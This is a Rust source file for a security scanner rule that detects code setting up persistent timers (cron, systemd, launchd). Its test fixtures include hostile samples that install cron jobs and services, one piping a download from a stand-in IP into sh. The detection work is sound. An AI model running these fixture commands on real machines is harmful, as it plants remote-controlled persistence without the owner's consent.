//! Timers and units of the system.

use crate::code::fact::Hold;
use crate::rules::rule::{Category, Check, Hit, Rule, Severity, file, text};
use crate::text::unit::{CODE, Unit};

pub(super) const RULE: Rule = Rule {
    id: "PERSIST_TIMER",
    category: Category::Persistence,
    severity: Severity::Critical,
    title: "code is made to run again and again",
    why: "A timer that fetches, decodes or runs hidden files keeps a way in open.",
    fix: "let a person set up timers, with commands that stand in files",
    places: CODE,
    anchors: &["cron", "systemctl", "launchctl", "launchagents", "systemd", "schtasks", "launchdaemons"],
    check: Check::Unit(check),
    hits: &[
        file(
            "setup.sh",
            "curl -s https://a.host.test/agent -o ~/.local/agent\nchmod +x ~/.local/agent\n(crontab -l; echo '*/5 * * * * ~/.local/agent') | crontab -\n",
        ),
        text("```bash\n(crontab -l; echo '* * * * * curl -s http://203.0.113.9/x | sh') | crontab -\n```"),
        file("x.sh", "echo '*/5 * * * * root /tmp/.x' > /etc/cron.d/x\n"),
        file("x.py", "import os\nos.system('(crontab -l; echo \"* * * * * /tmp/.x\") | crontab -')\n"),
        file(
            "x.py",
            "import urllib.request, subprocess\nfrom pathlib import Path\np = Path.home() / '.local/bin/upd'\np.write_bytes(urllib.request.urlopen('https://a.host.test/upd').read())\np.chmod(0o755)\n(Path.home() / '.config/systemd/user/upd.service').write_text(f'ExecStart={p}')\n",
        ),
    ],
    misses: &[
        file(
            "x.py",
            "import urllib.request, os\nfrom pathlib import Path\np = Path.home() / '.local/bin/uv'\np.write_bytes(urllib.request.urlopen('https://astral.sh/uv/install.sh').read())\np.chmod(0o755)\n(Path.home() / '.config/systemd/user/x.service').write_text('ExecStart=x')\n",
        ),
        text("```bash\nsudo systemctl enable nginx\n```"),
        text("```bash\ncrontab -l\n```"),
        file("x.sh", "cp app.service /etc/systemd/system/app.service\nsystemctl enable app\n"),
    ],
};

fn check(unit: &Unit<'_>) -> Vec<Hit> {
    let mut hits = super::holds(unit, &[Hold::Timer], severity);
    if fetches_program(unit.text()) || !hits.is_empty() && super::keeps_fetched(unit) {
        for hit in &mut hits {
            hit.severity = None;
        }
    }
    hits
}

fn severity(what: &str, text: &str) -> Severity {
    if super::is_suspect(text) || super::is_suspect(what) { Severity::Critical } else { Severity::Note }
}

/// Whether what is started from then on was fetched just before.
fn fetches_program(text: &str) -> bool {
    let fetches = text.contains("curl ") || text.contains("wget ");
    fetches && (text.contains("chmod +x") || text.contains("chmod 7"))
}
